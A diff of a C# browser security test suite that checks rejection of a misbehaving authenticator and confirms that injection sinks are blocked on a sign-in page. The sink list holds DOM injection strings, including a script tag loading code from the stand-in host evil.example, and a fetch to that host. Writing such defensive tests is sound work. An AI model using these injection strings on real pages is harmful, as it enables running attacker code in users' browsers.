@@ -20,7 +20,8 @@ public sealed class BrowserWeaknessTests(HeldInBrowser held) : IClassFixture<Hel
     public async Task An_authenticator_lies_about_signature_verification_or_presence()
     {
         await held.SignBeaInAsync();
-        foreach (var (bogus, badVerification, badPresence, code) in new[] { (true, false, false, "signature-malformed"), (false, true, false, "user-not-verified"), (false, false, true, "user-not-present") })
+        (bool, bool, bool, string)[] lies = [(true, false, false, "signature-malformed"), (false, true, false, "user-not-verified"), (false, false, true, "user-not-present")];
+        foreach (var (bogus, badVerification, badPresence, code) in lies)
         {
             await held.PrepareAsync(held.Bea);
             await held.Bea.MisbehaveAsync(bogus, badVerification, badPresence);
@@ -58,8 +59,10 @@ public sealed class BrowserWeaknessTests(HeldInBrowser held) : IClassFixture<Hel
         await victim.OpenAsync("/sign-in");
         foreach (var attack in new[]
                  {
-                     "document.body.innerHTML = '<img src=x>'", "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')", "document.createElement('script').text = 'window.ran = 1'",
-                     "document.createElement('script').src = 'https://evil.example/x.js'", "setTimeout('window.ran = 1', 0)", "document.createElement('iframe').srcdoc = '<b>x</b>'",
+                     "document.body.innerHTML = '<img src=x>'", "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
+                     "document.createElement('script').text = 'window.ran = 1'",
+                     "document.createElement('script').src = 'https://evil.example/x.js'",
+                     "setTimeout('window.ran = 1', 0)", "document.createElement('iframe').srcdoc = '<b>x</b>'",
                  })
             Assert.Equal("TypeError", await victim.Page.EvaluateAsync<string>($"() => {{ try {{ {attack}; return 'it ran'; }} catch (problem) {{ return problem.name; }} }}"));
         Assert.True(await victim.Page.EvaluateAsync<bool>("() => fetch('https://evil.example/').then(() => false, () => true)"));
